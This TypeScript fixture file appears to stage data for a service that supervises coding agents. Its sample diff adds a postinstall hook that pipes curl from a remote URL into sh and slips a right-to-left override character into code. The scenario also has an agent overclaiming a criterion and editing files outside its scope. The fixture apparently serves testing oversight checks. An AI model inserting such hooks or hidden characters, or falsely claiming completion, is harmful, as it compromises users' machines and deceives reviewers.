import type { AgentInfo, AgentLogLine, AgentRun } from '../../../contract/agent.ts'
import type { EvidenceRef } from '../../../contract/evidence.ts'
import type { ProtocolRound, ProtocolView } from '../../../contract/protocol-view.ts'
import type { TaskDetail } from '../../../contract/task.ts'
import { ago, shaOf } from './staged-facts.ts'

/** Facts about agents and the protocol for the staged service, each whole and valid by the contract. */

const LIMITS = { seconds: 1800, turns: 50, tokens: 2_000_000, cost_usd: null, output_bytes: 64 * 1024 ** 2 }

export function stagedAgent(agent: string, given: Partial<AgentInfo>): AgentInfo {
  return {
    ...{ agent: agent as AgentInfo['agent'], kind: 'codex', roles: ['executor'], workspace: { kind: 'empty' } },
    ...{ limits: LIMITS, state: 'ready', detail: 'codex-cli 0.98.0 answers.', remediation_hint: null },
    ...{ checked_at: ago(0.2), running: [] },
    spent: { turns: 1_204, input_tokens: 80_000, output_tokens: 8_120, cost_usd: 0.84 },
    ...given,
  }
}

export function stagedAgentRun(n: number, given: Partial<AgentRun>): AgentRun {
  const task_id = (given.task_id ?? 'pier') as AgentRun['task_id']
  return {
    ...{ run_id: `run0000${n}`, task_id, correlation_id: task_id, dispatch_id: 'dispatch1' as AgentRun['dispatch_id'] },
    ...{ round: 1, role: 'executor', agent: 'codex' as AgentRun['agent'], kind: 'codex', state: 'running' },
    ...{ started_at: ago(12), ended_at: null, last_sign_at: ago(0.1), deadline: ago(-18) },
    usage: { turns: 7, input_tokens: 40_000, output_tokens: 2_000, cost_usd: null },
    ...{ limits: LIMITS, exit_code: null, detail: '', error_code: null, remediation_hint: null },
    ...{ log_bytes: 0, log_sha256: null, log: null },
    ...given,
  }
}

export const stagedLogLine = (text: string, stream: AgentLogLine['stream']): AgentLogLine => ({
  ...{ at: '2026-01-31T12:00:00.000Z', stream, text },
})

export const stagedRef = (name: string): EvidenceRef => ({
  ...{ package_id: name as EvidenceRef['package_id'], manifest_sha256: shaOf(name), artifacts: 1 },
  captured_at: ago(3),
})

/** Given out a while ago to codex, with a criterion that has a check and one that has none. Nothing came back yet. */
export function stagedRound(n: number, given: Partial<ProtocolRound>): ProtocolRound {
  return {
    dispatch: {
      ...{ dispatch_id: `dispatch${n}` as ProtocolRound['dispatch']['dispatch_id'], round: n },
      ...{ agent: 'codex' as AgentInfo['agent'], reviewer: 'judge' as AgentInfo['agent'] },
      acceptance_criteria: [
        {
          ...{ criterion_id: 'c1', text: 'The tide table has a test.' },
          check: { argv: ['npm', 'test', '--', 'tide.test.ts'], timeout_seconds: 120 },
        },
        { criterion_id: 'c2', text: 'Every warning of the old page is on the new one.' },
      ],
      ...{ declared_scope: ['src/tide/'], request_sha256: shaOf('request'), issues: [] },
      ...{ dispatched_at: ago(30), dispatched_by: 'operator' },
      ...{ ack_by: ago(28), deadline: ago(-30), review_seconds: 3600, heartbeat_seconds: 60 },
    },
    ...{ ack: null, result: null, observed: null, verdict: null, ended: null },
    ...given,
  }
}

const dispatch_id = (n: number) => `dispatch${n}` as ProtocolRound['dispatch']['dispatch_id']

export const stagedAck = (n: number): NonNullable<ProtocolRound['ack']> => ({
  ...{ dispatch_id: dispatch_id(n), echo_sha256: shaOf('echo'), acked_at: ago(29.9), acked_by: 'agent:codex#run00001' },
})

export const stagedResult = (n: number): NonNullable<ProtocolRound['result']> => ({
  ...{ dispatch_id: dispatch_id(n), summary: 'The table is computed, and tested.' },
  work_log: [
    {
      ...{ entry_id: 'w1', started_at: ago(20), finished_at: ago(19), text: 'Wrote the table.', command: null },
      ...{ exit_code: null, files: ['src/tide/table.ts'] },
    },
    {
      ...{ entry_id: 'w2', started_at: ago(19), finished_at: ago(18), text: 'Ran the test.', command: 'npm test' },
      ...{ exit_code: 0, files: [] },
    },
  ],
  diff_snapshot: { files: ['src/tide/table.ts'], patch_sha256: shaOf('patch'), evidence: null },
  claims: [
    { criterion_ref: 'c1', met: true, text: 'Tested with the printed table.', work_log_refs: ['w2'] },
    { criterion_ref: 'c2', met: true, text: 'All of them are there.', work_log_refs: ['w1'] },
  ],
  artifacts: [],
  ...{ result_sha256: shaOf('result'), received_at: ago(18), received_from: 'agent:codex#run00001' },
})

export const stagedObserved = (
  given: Partial<NonNullable<ProtocolRound['observed']>>,
): NonNullable<ProtocolRound['observed']> => ({
  workspace: {
    files: [
      { path: 'src/tide/table.ts', change: 'changed', before_sha256: shaOf('a'), after_sha256: shaOf('b') },
      { path: 'package.json', change: 'changed', before_sha256: shaOf('c'), after_sha256: shaOf('d') },
      { path: 'src/tide/moon.bin', change: 'added', before_sha256: null, after_sha256: shaOf('e') },
    ],
    ...{ out_of_scope: ['package.json'], complete: true, diff: stagedRef('observed-1') },
  },
  checks: [
    {
      ...{ criterion_ref: 'c1', state: 'passed', exit_code: 0, detail: 'exit code 0', sandbox: 'bubblewrap' },
      ...{ output: stagedRef('check-1'), started_at: ago(17), finished_at: ago(16.9) },
    },
  ],
  observed_at: ago(16),
  ...given,
})

export const stagedVerdict = (n: number, decision: 'approve' | 'reject'): NonNullable<ProtocolRound['verdict']> => ({
  ...{ dispatch_id: dispatch_id(n), decision, comment: decision === 'approve' ? 'Good.' : '' },
  issues:
    decision === 'approve'
      ? []
      : [{ issue_id: 'i1', criterion_ref: 'c2', work_log_ref: 'w1', text: 'The warning about the lamp is gone.' }],
  ...{ issues_sha256: shaOf('issues'), reviewed_at: ago(10), reviewed_by: 'agent:judge#run00002' },
})

/** A patch as git writes it, of the two text files that `stagedObserved` names. */
export const STAGED_PATCH = `diff --git a/package.json b/package.json
index 1..2 100644
--- a/package.json
+++ b/package.json
@@ -1,3 +1,4 @@
 {
+  "postinstall": "curl https://example.org | sh",
   "name": "pier"
 }
diff --git a/src/tide/table.ts b/src/tide/table.ts
index 1..2 100644
--- a/src/tide/table.ts
+++ b/src/tide/table.ts
@@ -1,2 +1,2 @@ export function tide
-export const TIDE = 1
+export const TIDE = <b>2</b>\u202e
 // end
`

/** What the protocol says of this task; `phase` is the test's own word. */
export function stagedView(
  task: TaskDetail,
  phase: ProtocolView['phase'],
  rounds: ProtocolRound[],
  given: Partial<ProtocolView>,
): ProtocolView {
  const last = rounds.at(-1)
  const rows = (last?.dispatch.acceptance_criteria ?? []).map(({ criterion_id, text }, place) => ({
    ...{ criterion_id, text },
    reported: last?.result?.claims.find(({ criterion_ref }) => criterion_ref === criterion_id) ?? null,
    verified: last?.observed?.checks.find(({ criterion_ref }) => criterion_ref === criterion_id) ?? null,
    issues: last?.verdict?.issues.filter(({ criterion_ref }) => criterion_ref === criterion_id) ?? [],
    ...(place === 0 && last?.observed != null
      ? { status: 'VERIFIED' as const, reasons: [] }
      : { status: 'UNVERIFIED' as const, reasons: ['the criterion has no check command'] }),
  }))
  const out_of_scope = last?.observed?.workspace?.out_of_scope ?? []
  return {
    ...{ task_id: task.task_id, base_sha: task.base_sha, phase, max_rounds: 3, rounds_left: 3 - rounds.length, rounds },
    ...{ unreadable_rounds: 0, faults: [], due: null, last_heartbeat_at: null, heartbeat_late: false, lock: null },
    ledger: {
      ...{ round: last?.dispatch.round ?? null, status: out_of_scope.length > 0 ? 'GAPS' : 'UNVERIFIED', rows },
      ...{ out_of_scope, missing_proof: [], blocks_approval: rounds.length > 0 },
    },
    ...given,
  }
}
